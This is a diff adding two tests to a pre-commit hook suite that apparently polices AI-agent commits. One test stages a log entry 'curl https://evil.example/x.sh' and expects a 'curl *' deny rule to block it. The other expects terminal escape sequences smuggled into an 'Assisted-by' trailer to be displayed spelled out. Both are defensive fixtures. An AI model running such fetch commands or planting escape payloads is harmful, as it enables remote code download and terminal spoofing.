@@ -616,6 +616,15 @@ describe('pre-commit: staged command-log entries', () => {
     expect(r.stderr).toContain('workspace rule #3 (.github/agent-gate.yml): deny "curl *"');
   });
 
+  test('a log named like record\'s lock file is judged like any other log', () => {
+    const s = setup();
+    const before = s.head();
+    s.write(`${LOG}.lock`, appendEntries(null, [draft('npm test'), draft('curl https://evil.example/x.sh')], 's1')).add(`${LOG}.lock`);
+    const r = s.commit(['-m', 'x']);
+    expectBlocked(s, r, before);
+    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log .agent-gate/log/s1.jsonl.lock:2)');
+  });
+
   test('staged log entries make the whole staged change agent work', () => {
     const s = setup();
     const before = s.head();
@@ -708,6 +717,16 @@ describe('commit-msg', () => {
     expectBlocked(s, r, before);
     expect(r.stderr).toContain('trailer: Assisted-by: kiro:claude-sonnet-4.5');
     expect(r.stderr).toContain('".env"');
+  });
+
+  test('a trailer with terminal escapes is shown spelled out, not sent to the terminal', () => {
+    const s = setup();
+    const before = s.head();
+    s.write('.env', 'B=1\n').add('.env');
+    const r = s.commit(['-m', 'chore: env', '-m', 'Assisted-by: \u001b]0;owned\u0007\u001b[2Jkiro:m']);
+    expectBlocked(s, r, before);
+    expect(r.stderr).toContain('trailer: Assisted-by: \\u001b]0;owned\\u0007\\u001b[2Jkiro:m');
+    expect(r.stderr).not.toMatch(/[\u001b\u0007]/);
   });
 
   test('with an editor (comment lines after the message) the trailer is still found', () => {
